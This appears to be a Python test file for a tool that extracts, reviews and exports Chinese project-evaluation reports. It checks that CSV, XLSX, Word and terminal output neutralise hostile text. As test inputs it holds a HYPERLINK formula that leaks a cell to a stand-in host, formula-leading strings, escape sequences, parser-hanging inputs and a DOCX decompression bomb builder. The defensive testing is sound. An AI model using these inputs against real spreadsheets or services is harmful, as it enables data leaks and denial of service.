"""Report text is data (issue 16): no live formula and no control character reaches an
export or a Word draft. The texts are written for the test."""
from __future__ import annotations

import csv

import pytest

from assistant.store.export import COLUMNS, write_records
from assistant.textsafe import printable, spreadsheet_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=100%", "+86 1234", "-5万元", "@SUM(A1)",
           "\t=1+1", "含\x1b[2J转义\x00与\x07控制字符的问题"]


def _records():
    base = {name: "" for name, _ in COLUMNS}
    out = []
    for i, text in enumerate(HOSTILE):
        rec = dict(base, document="报告.txt", project="项目", kind="problem", text=text, target=text,
                   start=i * 10, end=i * 10 + 5, themes=["OTHER"])
        out.append(rec)
    return out


def test_printable_keeps_lines_and_tabs_and_marks_the_rest():
    assert printable("一\t二\n三") == "一\t二\n三"
    assert printable("a\x1b[31mb\x00") == "a\ufffd[31mb\ufffd"
    assert spreadsheet_text("=1+1") == "'=1+1" and spreadsheet_text("完成") == "完成"


def test_xlsx_export_writes_text_never_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "out.xlsx"
    assert write_records(_records(), "xlsx", path) == len(HOSTILE)
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert HOSTILE[0] in texts and "=100%" in texts               # kept as the report printed it
    assert not any("\x1b" in t or "\x00" in t for t in texts)
    numbers = [c.value for c in cells if isinstance(c.value, int)]
    assert 10 in numbers                                           # numbers stay numbers


def test_csv_export_prefixes_formula_starts(tmp_path):
    path = tmp_path / "out.csv"
    write_records(_records(), "csv", path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    texts = [row[[t for _, t in COLUMNS].index("内容")] for row in rows[1:]]
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert texts[1] == "'=100%"
    assert not any("\x1b" in t for t in texts)


def test_word_draft_survives_control_characters(tmp_path):
    docx = pytest.importorskip("docx")
    from assistant.draft import draft_report
    from assistant.model import Project, Report, Statement

    text = "存在问题：资料报送\x1b[2J不及时\x00，影响评价。\n"
    report = Report(doc="坏.txt", projects=[Project("某项目", "self_evaluation")],
                    statements=[Statement("problem", "资料报送\x1b[2J不及时\x00，影响评价。", "某项目", [], 5, 22)])
    path = draft_report(report, text).to_docx(tmp_path / "d.docx")
    body = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    assert "不及时" in body and "\x1b" not in body


async def test_review_app_shows_markup_and_escapes_in_report_text_as_text(tmp_path):
    from textual.widgets import DataTable, TextArea

    from assistant.model import Project, Report, Statement
    from assistant.store import Store
    from assistant.tui.app import ReviewApp
    from assistant.tui.screens.document import DocumentScreen

    name = "[/]公路养护[bold]项目"
    problem = "[link=http://example.invalid]点此[/link]资金\x1b[2J支付缓慢[/]"
    text = f"{name}\n存在问题：{problem}\n"
    report = Report(doc="[red]报告[/red].txt", projects=[Project(name, "self_evaluation")],
                    statements=[Statement("problem", problem, name, ["BUDGET_EXECUTION"],
                                          text.index(problem), text.index(problem) + len(problem))])
    db = tmp_path / "s.sqlite"
    with Store(db) as store:
        store.add_report(report, text, findings=[])
    app = ReviewApp(db, export_dir=tmp_path)
    async with app.run_test(size=(150, 45)) as pilot:
        await pilot.pause()
        row = [str(c) for c in app.screen.query_one("#documents", DataTable).get_row_at(0)]
        assert row[0] == "[red]报告[/red].txt" and "[/]公路养护[bold]项目" in row[1]
        await pilot.press("enter")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, DocumentScreen)
        cells = [str(c) for c in screen.query_one(DataTable).get_row_at(0)]
        assert any("[link=" in c for c in cells) and not any("\x1b" in c for c in cells)
        assert "\x1b" not in screen.query_one(TextArea).text
        await pilot.press("a")
        await pilot.press("u")
        await pilot.pause()


@pytest.mark.parametrize("run", ["\t", " ", "。 ", "\n", "：", "存在问题：\t ", "一、", "|", "…"])
def test_long_runs_of_white_space_and_punctuation_end(run):
    """A report holding a long run of TABs, spaces or punctuation is read in bounded time:
    120,000 characters of it, which a quadratic pattern would hold for hours, in a child
    process given a minute (a guard against a hang, not a speed goal)."""
    import subprocess
    import sys

    code = ("from assistant.extract import extract_text\n"
            f"extract_text('项目名称\\t' + {run!r} * (120000 // len({run!r})) + '预算执行率低。')\n")
    done = subprocess.run([sys.executable, "-c", code], timeout=60, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()[-500:]


# Shapes a quadratic scan would hold for hours (each measured at tens of seconds to minutes
# at these sizes before it was bounded): a line opening with a run of TABs (an XLSX with one
# cell at XFD1048576 pads its rows so), lines of one TAB before a TAB row (a cell-per-line
# block that is none), a field key's spaced pattern meeting a TAB run.
_LEADING_RUNS = {
    "tab_run_line": "项目名称\t某项目" + "\t" * 40_000 + "\n\n" + "\t" * 40_000 + "远处\n",
    "cell_lines_then_tab_row": "项目名称\t某项目\n" + "\t\n" * 20_000 + "\t一、" + "\t" * 100 + "x\n",
    "key_then_tabs": "某项目" + "\t" * 160_000 + "x\n",
    "repeated_words": "项目名称\t某项目\n" + "合格" * 200_000 + "\n" + "项目名称" * 20_000 + "\n",
    "stops_in_a_row": "项目名称\t某项目\n存在问题：" + "。" * 600_000 + "\n",
}


@pytest.mark.parametrize("shape", sorted(_LEADING_RUNS))
def test_runs_that_open_a_line_end(shape):
    import subprocess
    import sys

    code = ("import sys\nfrom assistant.extract import extract_text\n"
            "extract_text(sys.stdin.read(), 'runs.txt')\n")
    done = subprocess.run([sys.executable, "-c", code], input=_LEADING_RUNS[shape].encode("utf-8"),
                          timeout=60, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()[-500:]


def test_unclosed_nested_tables_of_a_web_page_are_read_in_bounded_time():
    """50,000 unclosed <table> tags (each level used to copy all the text inside it)."""
    import subprocess
    import sys

    code = ("from assistant.extract.readers.html import read_html\n"
            "d = read_html(('<html><body>' + '<table><tr><td>项目名称' * 50000).encode())\n"
            "assert d.text.count('项目名称') == 50000\n")
    done = subprocess.run([sys.executable, "-c", code], timeout=60, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()[-500:]


def test_forms_printed_alike_many_times_each_keep_their_own_name_offsets():
    """A name field and the stretch after it printed again and again are read once (the
    answer is kept by that stretch of text); each form still gets its own offsets, also the
    first, whose stretch begins at the text's start."""
    from assistant.extract import extract_text

    form = ("项目名称：乡村道路养护\n主管部门：某县交通运输局\n"
            "一级指标\t二级指标\t三级指标\t指标值\t完成值\n"
            "产出指标\t数量指标\t养护里程\t≥300公里\t310公里\n")
    text = form * 40
    projects = extract_text(text, "repeated.txt").projects
    assert len(projects) == 40
    starts = [p.name_start for p in projects]
    assert starts == [k * len(form) + form.index("乡村道路养护") for k in range(40)]
    assert all(text[p.name_start:p.name_end] == "乡村道路养护" for p in projects)
    # glued without separators, a field printed 20,000 times reads as it does printed thrice
    tail = "\n实施单位：某县交通运输局\n"
    many = extract_text("项目名称" * 20000 + tail, "glued.txt").projects
    few = extract_text("项目名称" * 3 + tail, "glued.txt").projects
    assert [p.name for p in many] == [p.name for p in few]


def test_a_cell_of_many_lines_is_joined_as_before():
    from assistant.extract.readers import cell_text

    assert cell_text("abc\ndef\n1,\n2,\nx;\ny\n中文\n字") == "abc def 1,2, x; y中文字"
    assert cell_text("\n".join(["名称"] * 100_000)) == "名称" * 100_000


@pytest.fixture
def small_limits(monkeypatch):
    import assistant.extract.readers as readers

    caps = {"max_unzipped_mb": 1, "max_cells": 2000, "max_text_mchars": 0.05}
    monkeypatch.setattr(readers, "limits", lambda: caps)
    return caps


def _docx_bomb(path):
    import zipfile

    import docx

    d = docx.Document()
    d.add_paragraph("项目名称：某项目")
    d.save(str(path))
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/media/padding.bin", b"\0" * (3 * 1024 * 1024))   # compresses to a few KB


def test_documents_over_their_budget_are_refused_in_one_line(tmp_path, small_limits, monkeypatch):
    monkeypatch.setenv("JIXIAO_LANG", "en")         # the words below are the English reasons
    pytest.importorskip("docx")
    openpyxl = pytest.importorskip("openpyxl")
    from assistant.extract import extract_path
    from assistant.extract.read import ReadError

    bomb = tmp_path / "bomb.docx"
    _docx_bomb(bomb)
    wide = tmp_path / "wide.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "项目名称"
    book.active.cell(row=3, column=3000, value="远处的一格")
    book.save(wide)
    long = tmp_path / "long.txt"
    long.write_text("存在问题：资料报送不及时。\n" * 6000, encoding="utf-8")
    for path, words in ((bomb, "unpacks to"), (wide, "cells"), (long, "million characters")):
        with pytest.raises(ReadError) as err:
            extract_path(path)
        line = str(err.value)
        assert path.name in line and words in line and "limits.yaml" in line and "\n" not in line
